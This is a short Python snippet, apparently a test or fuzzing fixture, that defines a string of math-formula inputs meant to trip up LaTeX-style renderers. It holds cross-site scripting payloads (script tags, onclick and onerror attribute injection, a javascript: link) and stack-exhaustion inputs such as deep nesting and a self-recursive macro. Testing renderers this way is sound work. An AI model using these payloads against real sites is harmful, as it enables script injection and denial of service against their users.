"""Writes formulas that make who renders them act, or run out of stack.

place: reflection
costs:
"""

text = '$\\text{<script>alert(1)</script>}$ $\\style{x}{y}$ $\\class{a" onclick="alert(1)}{b}$ $\\color{red" onclick="alert(1)}{b}$ $\\begin{matrix}<img src=x onerror=alert(1)>\\end{matrix}$ ${{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{$ $\\frac{\\frac{\\frac{\\frac{1}{2}}{3}}{4}}{5}$ $\\def\\x{\\x\\x}\\x$ $\\require{html}\\href{javascript:alert(1)}{x}$'
